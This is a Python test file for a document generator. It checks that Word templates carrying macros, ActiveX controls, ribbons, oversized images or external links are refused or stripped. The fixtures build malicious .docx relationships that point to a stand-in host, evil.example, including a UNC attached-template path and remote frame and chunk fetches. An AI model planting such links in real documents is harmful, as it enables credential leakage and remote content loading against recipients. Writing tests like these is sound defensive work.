"""Active content of a template (macros, links that fetch) does not reach the documents that are filed."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest

from generator.errors import ProgrammeError
from tests.rendering.small_templates import consortium, filled, of_paragraphs

Parts = dict[str, bytes]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def changed(change: Callable[[Parts], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(of_paragraphs("{{ name }}"))) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def linked(kind: str, target: str, mode: str = "External") -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        name = "word/_rels/document.xml.rels"
        relation = f'<Relationship Id="x9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        parts[name] = parts[name].replace(b"</Relationships>", f"{relation}</Relationships>".encode())

    return change


def attached(parts: Parts) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="x9" Type="{OFFICE}/attachedTemplate" '
        'Target="file:///\\\\evil.example\\x.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    settings = parts["word/settings.xml"].replace(
        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="x9"/></w:settings>'.encode()
    )
    parts["word/settings.xml"] = settings


def macro_kind(parts: Parts) -> None:
    kinds = "[Content_Types].xml"
    parts[kinds] = parts[kinds].replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"ms-word.document.macroEnabled.main+xml",
    )
    assert b"macroEnabled" in parts[kinds]


REFUSED: dict[str, Callable[[Parts], None]] = {
    "a linked picture": linked("image", "file:///\\\\evil.example\\x.png"),
    "a linked page": linked("frame", "http://evil.example/"),
    "a linked object": linked("oleObject", "file:///c:/x.xlsx"),
    "a fetched part": linked("aFChunk", "http://evil.example/x.html"),
    "macros": lambda parts: parts.update({"word/vbaProject.bin": b"x"}),
    "macros elsewhere": lambda parts: parts.update({"word/other/VBAPROJECT.BIN": b"x"}),
    "a kind with macros": macro_kind,
    "a control": lambda parts: parts.update({"word/activeX/activeX1.xml": b"<x/>"}),
    "a ribbon": lambda parts: parts.update({"customUI/customUI.xml": b"<x/>"}),
    "a picture of 400 million points": lambda parts: parts.update(
        {"word/media/x.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 20_000, 20_000)}
    ),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_what_acts_or_fetches_is_refused_by_name(kind: str) -> None:
    with pytest.raises(ProgrammeError) as caught:
        filled(changed(REFUSED[kind]), consortium())
    assert "application.docx" in str(caught.value)


def test_the_template_that_a_file_was_written_with_is_left_behind() -> None:
    parts = filled(changed(attached), consortium()).parts
    assert not any(b"evil.example" in content or b"attachedTemplate" in content for content in parts.values())


def test_a_web_address_to_click_on_stays() -> None:
    parts = filled(changed(linked("hyperlink", "https://kjt.example.gov.cn/")), consortium()).parts
    assert b"kjt.example.gov.cn" in parts["word/_rels/document.xml.rels"]
